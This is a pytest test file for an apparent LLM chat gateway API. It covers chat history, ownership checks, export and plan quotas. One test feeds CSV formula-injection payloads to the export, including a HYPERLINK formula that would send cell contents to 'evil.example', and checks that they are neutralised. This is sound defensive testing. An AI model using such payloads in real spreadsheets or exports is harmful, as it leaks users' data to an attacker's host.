"""Chats: made by their first message, kept with token counts, the owner's only, exportable; limits."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

from api.accounts.models import Plan
from api.gateway.bounds import prompt_ceiling
from api.main import create_app
from api.providers.base import ChatMessage
from tests.support.api import completion_body, db_execute, event_counts, events_of, sign_up


def _say(client, headers, chat_id, text: str, **extra):
    body = {
        "model": "mock-small",
        "messages": [{"role": "user", "content": text}],
        "metadata": {"chat_id": str(chat_id)},
    }
    return client.post("/v1/chat/completions", headers={**headers, **extra}, json=body)


def _roomy(settings, **limits) -> None:
    """More requests a day than the free plan's 3, to test the other limits."""
    db_execute(settings, update(Plan).where(Plan.code == "free").values(daily_requests=100, **limits))


def test_a_chat_is_made_by_its_first_message_and_keeps_both_sides_with_token_counts(client, settings):
    headers = sign_up(client, "ada@example.com")
    chat_id = uuid.uuid4()
    first = _say(client, headers, chat_id, "What is the capital of France?").json()
    second = _say(client, headers, chat_id, "And of Spain?").json()
    chat = client.get(f"/api/v1/chats/{chat_id}", headers=headers).json()
    assert chat["title"] == "What is the capital of France?" and chat["message_count"] == 4
    assert [m["role"] for m in chat["messages"]] == ["user", "assistant", "user", "assistant"]
    assert chat["messages"][1]["content"] == first["choices"][0]["message"]["content"]
    assert chat["messages"][3]["tokens"] == second["usage"]["completion_tokens"]
    assert chat["messages"][3]["model_id"] == "mock-small"
    counts = event_counts(settings)
    assert counts["chat.created"] == 1 and counts["message.sent"] == 2
    assert {e.chat_id for e in events_of(settings, "llm.call_succeeded")} == {chat_id}


def test_a_chat_keeps_the_role_of_its_first_call(client, settings):
    """So the portal's history can say which tool made an entry (a later call's role does not change it)."""
    headers = sign_up(client, "ada@example.com")
    _roomy(settings)
    with_role, plain = uuid.uuid4(), uuid.uuid4()
    assert (
        _say(client, headers, with_role, "make it short", **{"X-Assistant-Role": "shorten"}).status_code
        == 200
    )
    assert _say(client, headers, with_role, "again", **{"X-Assistant-Role": "paraphrase"}).status_code == 200
    assert _say(client, headers, plain, "hello").status_code == 200
    listed = {c["id"]: c["role_id"] for c in client.get("/api/v1/chats", headers=headers).json()}
    assert listed == {str(with_role): "shorten", str(plain): None}


def test_chats_can_be_listed_renamed_exported_and_deleted_by_their_owner_only(client, settings):
    ada, bob = sign_up(client, "ada@example.com"), sign_up(client, "bob@example.com")
    chat_id = uuid.uuid4()
    _say(client, ada, chat_id, "Hello")
    assert [c["id"] for c in client.get("/api/v1/chats", headers=ada).json()] == [str(chat_id)]
    assert client.get("/api/v1/chats", headers=bob).json() == []
    for method, path in (("GET", ""), ("PATCH", ""), ("DELETE", ""), ("GET", "/export")):
        response = client.request(
            method, f"/api/v1/chats/{chat_id}{path}", headers=bob, json={"title": "mine"}
        )
        assert response.status_code == 404, (method, path)
    taken = _say(client, bob, chat_id, "let me in")  # another user's chat id is not found either
    assert taken.status_code == 404 and taken.json()["error"]["code"] == "chat_not_found"

    renamed = client.patch(f"/api/v1/chats/{chat_id}", headers=ada, json={"title": "  Greetings  "}).json()
    assert renamed["title"] == "Greetings"
    exported = client.get(f"/api/v1/chats/{chat_id}/export", headers=ada, params={"format": "json"})
    assert exported.headers["content-disposition"] == f'attachment; filename="chat-{chat_id}.json"'
    assert [m["role"] for m in exported.json()["messages"]] == ["user", "assistant"]
    rows = list(
        csv.reader(io.StringIO(client.get(f"/api/v1/chats/{chat_id}/export?format=csv", headers=ada).text))
    )
    assert rows[0] == ["created_at", "role", "model_id", "tokens", "content"] and rows[1][4] == "Hello"
    assert client.delete(f"/api/v1/chats/{chat_id}", headers=ada).status_code == 204
    assert client.get(f"/api/v1/chats/{chat_id}", headers=ada).status_code == 404


def test_a_chat_exported_as_csv_holds_no_formula(client, settings):
    """A message (the user's, or an answer the user steered) that starts like a formula is made inert."""
    _roomy(settings)
    ada = sign_up(client, "ada@example.com")
    chat_id = uuid.uuid4()
    payloads = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    for text in payloads:
        assert _say(client, ada, chat_id, text).status_code == 200
    exported = client.get(f"/api/v1/chats/{chat_id}/export", headers=ada, params={"format": "csv"}).text
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    said = [row[4] for row in rows[1:] if row[1] == "user"]
    assert said == ["'" + text for text in payloads]
    assert all(not row[4].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:])
    assert [row[3].isdigit() for row in rows[1:]] == [True] * len(rows[1:])  # token counts stay numbers


def test_a_failed_first_message_leaves_no_chat(settings):
    faulty = settings.model_copy(update={"mock_faults": True})
    with TestClient(create_app(faulty)) as client:
        headers = sign_up(client, "ada@example.com")
        chat_id = uuid.uuid4()
        body = {**completion_body(), "metadata": {"chat_id": str(chat_id), "mock": "fail"}}
        assert client.post("/v1/chat/completions", headers=headers, json=body).status_code == 502
        assert client.get("/api/v1/chats", headers=headers).json() == []


def test_the_plan_limits_chats_and_messages_per_chat(client, settings):
    _roomy(settings, max_chats=2, max_messages_per_chat=4)
    headers = sign_up(client, "ada@example.com")
    one, two, three = uuid.uuid4(), uuid.uuid4(), uuid.uuid4()
    assert _say(client, headers, one, "a").status_code == 200
    assert _say(client, headers, two, "b").status_code == 200
    third = _say(client, headers, three, "c")
    assert third.status_code == 429 and third.json()["error"]["code"] == "chat_limit_reached"
    assert _say(client, headers, one, "again").status_code == 200  # 4 messages: the chat is full now
    full = _say(client, headers, one, "once more")
    assert full.status_code == 429 and full.json()["error"]["code"] == "chat_message_limit_reached"
    assert client.get(f"/api/v1/chats/{one}", headers=headers).json()["message_count"] == 4


@pytest.mark.both_databases  # token quotas: gateway_take on PostgreSQL
def test_tokens_per_day_are_limited_and_usage_shows_what_remains(client, settings, clock):
    """A call reserves the most tokens it can use (its prompt's bound and its `max_tokens`) before the
    provider is called: it is refused when that does not fit in what is left of the day, and the
    reservation turns into the tokens used when it ends."""
    _roomy(settings, tokens_per_day=100)
    headers = sign_up(client, "ada@example.com")
    body = {**completion_body(), "max_tokens": 5}
    most = prompt_ceiling([ChatMessage("user", body["messages"][0]["content"])]) + 5
    used, answered = 0, []
    while used + most <= 100:
        response = client.post("/v1/chat/completions", headers=headers, json=body)
        assert response.status_code == 200, response.text
        answered.append(response.json()["usage"]["total_tokens"])
        used += answered[-1]
    assert len(answered) >= 2 and all(tokens < most for tokens in answered)
    refused = client.post("/v1/chat/completions", headers=headers, json=body)
    assert refused.status_code == 429 and refused.json()["error"]["code"] == "quota_exceeded"
    assert refused.json()["error"]["metric"] == "tokens_per_day"
    assert f"may use up to {most}" in refused.json()["error"]["message"]
    until_midnight = clock.next_midnight() - clock.now()
    assert int(refused.headers["Retry-After"]) == until_midnight.total_seconds()
    usage = client.get("/api/v1/me/usage", headers=headers).json()
    assert usage["plan"] == "free"
    assert usage["requests_today"]["used"] == len(answered) and usage["requests_today"]["limit"] == 100
    assert usage["tokens_today"]["used"] == used and usage["tokens_today"]["remaining"] == 100 - used
    assert usage["tokens_this_month"]["used"] == used
    assert usage["requests_today"]["resets_at"] == f"{clock.next_midnight():%Y-%m-%dT%H:%M:%SZ}"


def test_a_malformed_chat_id_is_a_422(client):
    headers = sign_up(client, "ada@example.com")
    response = _say(client, headers, "not-a-uuid", "hi")
    assert response.status_code == 422 and response.json()["error"]["code"] == "invalid_chat_id"
